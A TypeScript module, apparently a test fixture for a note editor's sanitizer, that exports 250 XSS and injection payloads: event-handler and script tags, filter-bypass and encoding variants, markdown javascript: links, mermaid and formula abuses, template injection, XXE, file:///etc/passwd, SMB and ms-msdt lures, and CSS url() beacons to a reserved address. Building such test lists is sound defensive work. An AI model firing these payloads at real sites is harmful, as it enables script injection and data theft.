// What has become code in other editors of notes: tags, handlers, addresses, styles, templates, broken tags, and what
// diagrams, formulas and previews have let through. Each asks for a dialog or for a file of 192.0.2.1, which is nobody's.

const away = 'http://192.0.2.1'

const handlers = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'video src=x onerror',
    'audio src=x onerror',
  ],
  ...[
    'details open ontoggle',
    'input autofocus onfocus',
    'select autofocus onfocus',
    'marquee onstart',
  ],
  ...[
    'textarea autofocus onfocus',
    'iframe onload',
    'object onerror',
    'embed onload',
    'style onload',
  ],
  ...[
    'a href=# onmouseover',
    'button onclick',
    'div onpointerenter',
    'form onsubmit',
    'keygen autofocus onfocus',
  ],
  ...[
    'animate onbegin',
    'svg><set onbegin',
    'svg><a onload',
    'math><mi onclick',
    'table background=x onload',
  ],
].map((tag) => `<${tag}=alert(1)>`)

const tags = [
  ...[
    '<script>alert(1)</script>',
    `<script src=${away}/a.js></script>`,
    '<script type=module>alert(1)</script>',
  ],
  ...[
    `<img src=${away}/a.png>`,
    `<link rel=stylesheet href=${away}/a.css>`,
    `<link rel=prefetch href=${away}/a>`,
  ],
  ...[
    `<iframe src=${away}></iframe>`,
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    `<base href=${away}>`,
  ],
  ...[
    '<iframe src="javascript:alert(1)"></iframe>',
    `<object data=${away}/a></object>`,
    `<embed src=${away}/a>`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=${away}">`,
    `<form action=${away}><input type=submit></form>`,
  ],
  ...[
    '<a href="javascript:alert(1)">a</a>',
    `<svg><use href="${away}/a.svg#x"/></svg>`,
    `<video poster=${away}/a>`,
  ],
  ...[
    '<svg><script>alert(1)</script></svg>',
    '<svg><foreignObject><script>alert(1)</script></foreignObject></svg>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><script>alert(1)',
  ],
  ...[
    '<style>@import "http://192.0.2.1/a.css";</style>',
    `<style>*{background:url(${away}/a)}</style>`,
    '<title><script>alert(1)</script></title>',
  ],
  ...[
    `<picture><source srcset=${away}/a></picture>`,
    `<img srcset="${away}/a 2x">`,
    `<audio src=${away}/a autoplay>`,
  ],
  ...[
    `<input type=image src=${away}/a>`,
    `<body background=${away}/a>`,
    `<portal src=${away}>`,
    `<frameset><frame src=${away}>`,
  ],
]

const broken = [
  ...[
    '<img src=x onerror=alert(1)//',
    '<<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  ...[
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<img/src=x/onerror=alert(1)>',
    '<svg/onload=alert(1)>',
  ],
  ...[
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '--><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
  ],
  ...[
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
  ],
  ...[
    '</script><script>alert(1)</script>',
    '`-alert(1)-`',
    "';alert(1);'",
    '";alert(1);"',
    '\\";alert(1);//',
    '*/alert(1)/*',
  ],
  ...[
    '<img src=`x`onerror=alert(1)>',
    '<img src="x\u0000" onerror=alert(1)>',
    '<a href=" javascript:alert(1)">x</a>',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
  ],
  ...[
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '<ſcript>alert(1)</ſcript>',
  ],
]

const markdown = [
  ...[
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java&#x0A;script:alert(1))',
    '[a](javascript&colon;alert(1))',
  ],
  ...[
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](vbscript:msgbox(1))',
    '[a](file:///etc/passwd)',
  ],
  ...[
    `![a](${away}/a.png)`,
    '![a](javascript:alert(1))',
    '![a](x"onerror="alert(1))',
    '![a"onerror="alert(1)](x)',
    `![][r]\n[r]: ${away}/r`,
  ],
  ...[
    '<javascript:alert(1)>',
    `<${away}/auto>`,
    '[a]: javascript:alert(1)',
    '[a](<javascript:alert(1)>)',
    '[a](x "onclick=alert(1)")',
  ],
  ...[
    '[a](smb://192.0.2.1/a)',
    '[a](\\\\192.0.2.1\\a)',
    '[a](ms-msdt:/id)',
    '[[javascript:alert(1)]]',
    '![[http://192.0.2.1/a]]',
  ],
  ...[
    '```mermaid',
    '```js"onload="alert(1)',
    '```<script>alert(1)</script>',
    '~~~"><img src=x onerror=alert(1)>',
    '```html',
  ],
  ...[
    '$$\\href{javascript:alert(1)}{x}$$',
    '$\\unicode{<img src=x onerror=alert(1)>}$',
    '\\[\\htmlData{x=1}{a}\\]',
  ],
  ...[
    'graph TD; A["<img src=x onerror=alert(1)>"]',
    'click A call alert(1)',
    '%%{init: {"securityLevel":"loose"}}%%',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '\x24{alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '{% raw %}alert(1)',
    '{{7*7}}',
  ],
  ...[
    '__proto__',
    'constructor',
    '{"__proto__":{"x":1}}',
    'javascript:alert(1)',
    `${away}/plain`,
    '//192.0.2.1/x',
  ],
  ...[
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  ...[
    '<!DOCTYPE x [<!ENTITY e SYSTEM "http://192.0.2.1/e">]>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ],
]

const styles = [
  ...[
    `<div style="background:url(${away}/a)">`,
    '<div style="width:expression(alert(1))">',
    '<div style="behavior:url(x)">',
  ],
  ...[
    `<p style="list-style:url(${away}/a)">`,
    `<p style="content:url(${away}/a)">`,
    '<div style="-moz-binding:url(x)">',
  ],
  ...[
    `<span style="cursor:url(${away}/a),auto">`,
    `<b style="border-image:url(${away}/a)">`,
    '<i style="animation:x">',
  ],
]

const basic = [...handlers, ...tags, ...broken, ...markdown, ...styles]

/** 250 texts, each on one line. */
export const payloads: readonly string[] = [
  ...new Set(
    [
      ...basic,
      ...basic.map((text) => text.toUpperCase().replaceAll('ALERT', 'alert')),
      ...basic.map((text) => `Ada ${text} will send it`),
    ].map((text) => text.replaceAll('\n', ' ')),
  ),
].slice(0, 250)
